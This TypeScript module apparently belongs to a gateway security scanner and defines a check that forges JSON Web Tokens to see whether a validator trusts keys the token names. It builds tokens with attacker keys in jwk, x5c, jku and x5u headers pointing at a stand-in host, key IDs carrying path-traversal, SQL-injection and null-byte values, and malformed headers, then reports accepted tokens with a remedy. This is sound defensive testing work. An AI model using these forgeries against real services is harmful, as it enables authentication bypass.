import { generateKeyPairSync } from 'node:crypto';
import type { Attack } from '#contract';
import { type ForgedToken, firstAccepted, validatorOf } from '../forged-tokens.ts';
import { createKey, guessedSecret, type SigningKey } from '../stage/signing-keys.ts';
import { algorithmOf } from '../stage/tokens.ts';

/** Address in the headers of forged tokens. A gateway that connects to it lets callers choose their keys. */
const ADDRESS = 'https://attacker.invalid/keys';

export const tokenHeader: Attack = {
  name: 'token-header',
  severity: 'CRITICAL',
  title: 'A validator uses a key that the token itself names',
  description:
    'Sends tokens signed with a key of the attacker that the header carries (jwk, x5c) or names (jku, x5u), with key IDs that are paths or queries, unknown critical headers, unencoded payloads, and headers of 40,000 characters. A finding is a token that the endpoint accepts, or a request of the gateway to the address in the header.',
  applies: (endpoint) => validatorOf(endpoint) !== undefined,
  async run(target) {
    const { pointer, settings } = validatorOf(target)!;
    const accepted = await firstAccepted(target, forgeries(createKey(algorithmOf(settings))), ADDRESS);
    if (!accepted) return [];
    return [
      {
        shown: `The endpoint accepted a token ${accepted.forgery.why}.`,
        remedy: 'Use only the keys of jwk_url or jwk_local_path of auth/validator to verify tokens.',
        pointer,
        requests: [accepted.request],
      },
    ];
  },
};

function forgeries(key: SigningKey): ForgedToken[] {
  const own = { jwk: key.jwk, x5c: [selfSigned()], jku: ADDRESS, x5u: ADDRESS };
  const ids = ['../../../../dev/null', "sandbox' OR '1'='1", 'sandbox\u0000', ADDRESS, '', ['sandbox'], {}];
  return [
    ...Object.entries(own).map(([name, value]) => ({
      why: `signed with the key in its header "${name}"`,
      header: { [name]: value, kid: 'attacker' },
      key,
    })),
    ...ids.map((kid) => ({
      why: `with the key ID ${JSON.stringify(kid)}`,
      header: { kid, alg: 'HS256' },
      key: guessedSecret(''),
    })),
    { why: 'with an unknown critical header', header: { crit: ['exp', 'attack'], attack: true } },
    { why: 'with an unencoded payload', header: { b64: false, crit: ['b64'] } },
    { why: 'with a header of 40,000 characters', header: { attack: 'a'.repeat(40_000) } },
  ];
}

/** A public key where a certificate is expected. */
function selfSigned(): string {
  const { publicKey } = generateKeyPairSync('ed25519');
  return publicKey.export({ format: 'der', type: 'spki' }).toString('base64');
}
